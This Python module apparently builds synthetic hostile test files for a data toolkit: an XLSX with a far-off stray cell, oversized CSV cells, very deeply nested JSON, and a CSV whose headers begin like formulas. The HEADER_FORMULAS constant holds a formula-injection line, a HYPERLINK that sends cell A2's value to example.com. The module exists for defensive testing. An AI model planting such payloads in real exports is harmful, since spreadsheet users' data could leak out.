"""Hostile and oversized files, made on demand for the tests and benchmarks of the kit's
limits (never kept in datasets/: some are hundreds of megabytes). Every file is
synthetic, seeded and the same bytes for the same arguments:

- far_cell_workbook: an XLSX whose used range is 16,384 columns wide because of one
  value in the last column (XFD), as a stray keystroke leaves it;
- long_cell_csv: a CSV with one cell of a given size;
- deep_json: JSON (or GeoJSON) nested a given number of levels;
- header_formula_csv: a CSV whose header cells are spreadsheet formulas;
- facility_csv: a facility-like CSV of any number of rows, every name distinct.

Written by hand (not openpyxl, not json.dumps): a workbook of 100,000 rows is written in
a second, and JSON 100,000 levels deep without recursion.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

from oddk.generate.common import rng

__all__ = ["far_cell_workbook", "long_cell_csv", "deep_json", "header_formula_csv",
           "facility_csv", "FAR_COLUMN"]

FAR_COLUMN = "XFD"  # the last of Excel's 16,384 columns

_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument'
        '.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Ark1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
}

PLACES = ["Havnen", "Parken", "Torvet", "Stationen", "Skoven", "Stranden", "Åen", "Søen",
          "Rådhuset", "Biblioteket", "Mosen", "Engen", "Kirken", "Skolen", "Hallen"]
TOWNS = [("Aarhus", 8000), ("Odense", 5000), ("Aalborg", 9000), ("Vejle", 7100),
         ("Køge", 4600), ("Næstved", 4700), ("Ribe", 6760), ("Skive", 7800)]


def far_cell_workbook(path, rows: int = 3, far_text: str | None = "tjekket") -> Path:
    """A workbook of `rows` data rows (navn, postnr, antal) with one more value,
    `far_text`, in column XFD of the header row: the used range is A1:XFD{rows+1}.
    far_text=None: the same workbook without the far cell (A1:C{rows+1})."""
    strings = ["navn", "postnr", "antal", far_text or ""]
    last = FAR_COLUMN if far_text else "C"
    far = f'<c r="{FAR_COLUMN}1" t="s"><v>3</v></c>' if far_text else ""
    index = {s: i for i, s in enumerate(strings)}

    def s(text):
        if text not in index:
            index[text] = len(strings)
            strings.append(text)
        return index[text]

    r = rng("far-cell")
    out = io.StringIO()
    out.write('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              f'<dimension ref="A1:{last}{rows + 1}"/><sheetData>')
    out.write(f'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
              f'<c r="C1" t="s"><v>2</v></c>{far}</row>')
    for i in range(rows):
        n = i + 2
        town, postnr = TOWNS[i % len(TOWNS)]
        name = f"Legeplads ved {PLACES[r.randrange(len(PLACES))]}, {town}"
        out.write(f'<row r="{n}"><c r="A{n}" t="s"><v>{s(name)}</v></c>'
                  f'<c r="B{n}"><v>{postnr}</v></c><c r="C{n}"><v>{r.randint(1, 40)}</v></c></row>')
    out.write("</sheetData></worksheet>")
    shared = "".join(f"<si><t>{escape(t)}</t></si>" for t in strings)
    parts = dict(_PARTS)
    parts["xl/worksheets/sheet1.xml"] = out.getvalue()
    parts["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{shared}</sst>')
    p = Path(path)
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text.encode("utf-8"))
    return p


def long_cell_csv(path, size: int, line: int = 3) -> Path:
    """A CSV of four data rows (id;navn;beskrivelse) whose description on file line
    `line` (2-5; line 1 is the header) is `size` characters long, without quotes."""
    unit = "Lang beskrivelse af stedet og dets historie. "
    body = (unit * (size // len(unit) + 1))[:size].rstrip() + "."
    body += "x" * (size - len(body))
    rows = ["id;navn;beskrivelse"]
    for i in range(2, 6):
        rows.append(f"{i - 1};Legeplads {i - 1};{body if i == line else 'Kort tekst'}")
    p = Path(path)
    p.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return p


def deep_json(path, depth: int, geojson: bool = True) -> Path:
    """JSON nested `depth` levels: a GeoJSON FeatureCollection whose one feature's
    coordinates are lists in lists (geojson=True), or plain lists in lists."""
    inner = "[" * depth + "10.2, 56.1" + "]" * depth
    if geojson:
        text = ('{"type": "FeatureCollection", "features": [{"type": "Feature", '
                '"properties": {"navn": "Legeplads"}, "geometry": {"type": "Point", '
                f'"coordinates": {inner}}}}}]}}')
    else:
        text = inner
    p = Path(path)
    p.write_text(text, encoding="utf-8")
    return p


#: Header cells a spreadsheet would run as formulas (=, +, -, @ at the start).
HEADER_FORMULAS = ['=HYPERLINK("http://example.com/?x="&A2,"navn")', "+postnr", "-antal", "@type"]


def header_formula_csv(path) -> Path:
    """A CSV whose every header cell starts like a formula, and two ordinary rows."""
    head = ";".join('"' + h.replace('"', '""') + '"' for h in HEADER_FORMULAS)
    p = Path(path)
    p.write_text(head + "\nToilet ved Havnen;8000;2;Toilet\nToilet ved Parken;8200;1;Toilet\n",
                 encoding="utf-8")
    return p


def facility_csv(path, rows: int) -> Path:
    """A facility CSV like Aarhus's toilet file (';', decimal commas, UTF-8) with `rows`
    rows, every name distinct, positions in and around Aarhus."""
    r = rng(f"facilities-{rows}")
    p = Path(path)
    kinds = ["Offentligt toilet", "Handicaptoilet", "Pissoir"]
    hours = ["Døgnåbent", "Hele døgnet", "8-22", "Sommer 8-22, vinter 9-16"]
    with open(p, "w", encoding="utf-8", newline="") as f:
        f.write("Navn;Type;Handicapvenligt;Åbningstider;Betaling;Postnr;Breddegrad;Længdegrad\n")
        chunk = []
        for i in range(rows):
            lat = f"{56.10 + r.random() * 0.12:.6f}".replace(".", ",")
            lon = f"{10.10 + r.random() * 0.15:.6f}".replace(".", ",")
            accessible = "Ja" if r.random() < 0.4 else "Nej"
            chunk.append(f"Toilet ved {PLACES[i % len(PLACES)]} {i + 1}, Aarhus;{kinds[i % 3]};"
                         f"{accessible};{hours[i % 4]};Nej;{8000 + 10 * (i % 30)};{lat};{lon}\n")
            if len(chunk) == 50_000:
                f.write("".join(chunk))
                chunk = []
        f.write("".join(chunk))
    return p
